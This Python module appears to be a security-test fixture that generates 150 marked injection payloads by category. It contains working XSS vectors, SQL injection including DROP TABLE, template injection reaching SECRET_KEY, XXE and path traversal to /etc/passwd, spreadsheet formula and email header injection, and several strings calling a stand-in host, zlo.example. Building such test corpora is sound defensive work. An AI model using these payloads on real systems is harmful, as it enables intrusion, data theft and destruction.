"""150 hostile texts of our own, by what they try; each bears a marker of its own.

`§` stands for the marker: as an attribute or an element it tells what a payload made, as text it
does no harm. `HIT` is what runs where a payload is executed.
"""

import re
from typing import NamedTuple

MARKER = re.compile(r"xq([0-9]{3})z", re.IGNORECASE)
# What a payload calls once it runs: heard as a dialog, or seen in the window.
HIT = "top.hit=1;alert(1)"


class Payload(NamedTuple):
    """`text` bears `marker`, as “xq017z”."""

    kind: str
    marker: str
    text: str


_KINDS: dict[str, list[str]] = {
    "elements": [
        "<script §>HIT</script>",
        "<ScRiPt § >HIT</sCrIpT >",
        "<script/§/src=data:,HIT></script>",
        "<img § src=x onerror=HIT>",
        "<IMG/§/SRC=x/ONERROR=HIT>",
        "<iframe § srcdoc='<script>parent.HIT</script>'></iframe>",
        "<body § onload=HIT>",
        "<input § autofocus onfocus=HIT>",
        "<details § open ontoggle=HIT>",
        "<video §><source onerror=HIT></video>",
        "<object § data=javascript:HIT></object>",
        "<embed § src=javascript:HIT>",
        "<form § action=javascript:HIT><button>xx</button></form>",
        "<base § href=//zlo.example/>",
        "<meta § http-equiv=refresh content='0;url=javascript:HIT'>",
        "<link § rel=stylesheet href=//zlo.example/x.css>",
        "<§ onmouseover=HIT>x</§>",
        "<!--§--><!--><script §>HIT</script>-->",
        "<a § href=javascript:HIT>x</a",
        "<template §><script>HIT</script></template>",
    ],
    "attributes": [
        '" § onmouseover="HIT',
        "' § onmouseover='HIT",
        '"><script §>HIT</script>',
        "'><script §>HIT</script>",
        '" § autofocus onfocus=HIT x="',
        "` § onmouseover=HIT `",
        " § onmouseover=HIT ",
        '\\" § onmouseover=HIT \\"',
        '"/><§ style=x:expression(HIT)>',
        "&quot; § onmouseover=&quot;HIT",
        "&#34;&#62;&#60;script §&#62;HIT",
        "x' §='HIT",
    ],
    "addresses": [
        "javascript:HIT//§",
        "JaVaScRiPt:HIT//§",
        " javascript:HIT//§",
        "java\tscript:HIT//§",
        "\x01javascript:HIT//§",
        "data:text/html,<script §>HIT</script>",
        "data:text/html;base64,PHNjcmlwdD5ISVQ8L3NjcmlwdD4=§",
        "vbscript:HIT'§",
        "//zlo.example/§",
        "\\\\zlo.example\\§",
        "https://zlo.example/\"><script §>HIT</script>",
        "https://zlo.example/' onclick='HIT' §='",
        "https://jana:heslo@zlo.example/§",
        "javascript://%0aHIT//§",
        "http://zlo.example/§?a=1&lt=2&quot=3",
    ],
    "svg and mathml": [
        "<svg § onload=HIT>",
        "<svg §><script>HIT</script></svg>",
        "<svg §><animate onbegin=HIT attributeName=x></svg>",
        "<svg §><a xlink:href=javascript:HIT><text>x</text></a></svg>",
        "<svg><style><img § src=x onerror=HIT></style></svg>",
        "<math §><mtext><table><mglyph><style><img onerror=HIT src></table></math>",
        "<math § href=javascript:HIT>x</math>",
        "<svg §><foreignObject><iframe onload=HIT></foreignObject></svg>",
    ],
    "styles": [
        "<style §>*{background:url(//zlo.example/)}</style>",
        "</style><script §>HIT</script>",
        "x:expression(HIT)/*§*/",
        "red;background:url(javascript:HIT)/*§*/",
        '"style="position:fixed;inset:0" § "',
        "@import '//zlo.example/§.css';",
        "}body{display:none}/*§*/",
        "\\3c script §\\3e HIT",
    ],
    "formulas": [
        '=HYPERLINK("//zlo.example/";"§")',
        "=cmd|'/C calc'!A0§",
        "+1+cmd|'/C calc'!§",
        "-2+3+§",
        "@SUM(1+1)*§",
        "\t=1+1+§",
        "\r=1+1+§",
        "＝1+1+§",
        '";=1+1+§;"',
        "'=1+1+§",
        "=IMPORTXML(CONCAT(A1;§);//zlo.example)",
        "%0A=1+1+§",
    ],
    "headers of letters": [
        "\r\nBcc: §@zlo.example",
        "\nX-§: 1",
        "\r\n\r\n<script §>HIT</script>",
        "%0d%0aX-§: 1",
        "\u2028X-§: 1",
        "\x85X-§: 1",
        "x\x0bSubject: §",
        '"§" <§@zlo.example>, <jana@zlo.example>',
        "=?utf-8?q?=0d=0aX-§:_1?=",
        "\r\n.\r\nMAIL FROM:<§@zlo.example>",
        "Content-Type: text/html; §",
        "# §\n\nKlikněte: https://zlo.example/",
    ],
    "templates": [
        "{{ 7|add:42 }}§",
        "§{{7*7}}§",
        "{% debug %}§",
        "{% include '/etc/passwd' %}§",
        "{{ settings.SECRET_KEY }}§",
        "{{ ''.__class__.__mro__ }}§",
        "${7*7}§",
        "#{7*7}§",
        "%(password)s %s %d %n §",
        "{0.__class__} {password} §",
    ],
    "unicode": [
        "\u202e§\u202dcod.exe",
        "\u2066§\u2069\u2067x",
        "\u200b\u200c\u200d\ufeff§",
        "＜script §＞HIT＜/script＞",
        "\ufe64script §\ufe65HIT",
        "\u02b9\u02ba onmouseover=HIT § \u02ba",
        "\u0430dmin \u0440ortal §",
        "ﬁ ﷺ İ ı ß ſ §",
        "Z" + "\u0301" * 40 + "§",
        "\ud7ff\U0001f469\u200d\U0001f469\u200d\U0001f467§",
        "\U000e0041\U000e0042§",
        "%C0%BCscript §%C0%BE",
        "+ADw-script §+AD4-HIT+ADw-/script+AD4-",
        "\u00ad§\u061c\u180e",
    ],
    "paths": [
        "../../../etc/passwd§",
        "..\\..\\boot.ini§",
        "%2e%2e%2f%2e%2e%2f§",
        "....//....//§",
        "/etc/passwd§",
        "file:///etc/passwd#§",
        "C:\\Windows\\§",
        "con.§",
    ],
    "databases": [
        "' OR 1=1 --§",
        "'; DROP TABLE strategy_item; --§",
        '" UNION SELECT 1,2,3 --§',
        "\\'; SELECT pg_sleep(9); --§",
        "%_%\\_§",
        "1) OR (1=1§",
        "$$;SELECT 1;$$§",
        "MATCH '\"§\" NEAR(a b) *",
    ],
    "scripts": [
        "</script><script §>HIT</script>",
        "</ScRiPt ><img § src=x onerror=HIT>",
        '"};HIT;{"§',
        "';HIT;'§",
        "\\u003cscript §\\u003eHIT",
        "<!--<script §>",
        "]]>§<script §>HIT</script>",
        '{"@context":"//zlo.example/","§":1}',
        "\u2029HIT//§",
        "__proto__.§",
    ],
    "xml": [
        "<![CDATA[<script §>HIT</script>]]>",
        "<!DOCTYPE § [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>",
        "&§;&a;&lol9;",
        "<?§ version='1.0'?>",
        "<?php § echo 1 ?>",
        "<![if §]>x<![endif]>",
        "<xi:include § href='file:///etc/passwd'/>",
        "&#x26;lt;script §&#x26;gt;",
    ],
    "controls and logs": [
        "§\x00za nulou",
        "\x1b[2J\x1b]0;§\x07",
        "\x08\x08\x08§",
        "\nBEGIN:VEVENT\nSUMMARY:§\nEND:VEVENT",
        "\r\n2026-01-01 ERROR § prijato",
    ],
}  # fmt: skip


def _made() -> list[Payload]:
    made: list[Payload] = []
    for kind, texts in _KINDS.items():
        for text in texts:
            marker = f"xq{len(made) + 1:03}z"
            made.append(Payload(kind, marker, text.replace("§", marker).replace("HIT", HIT)))
    return made


PAYLOADS = _made()
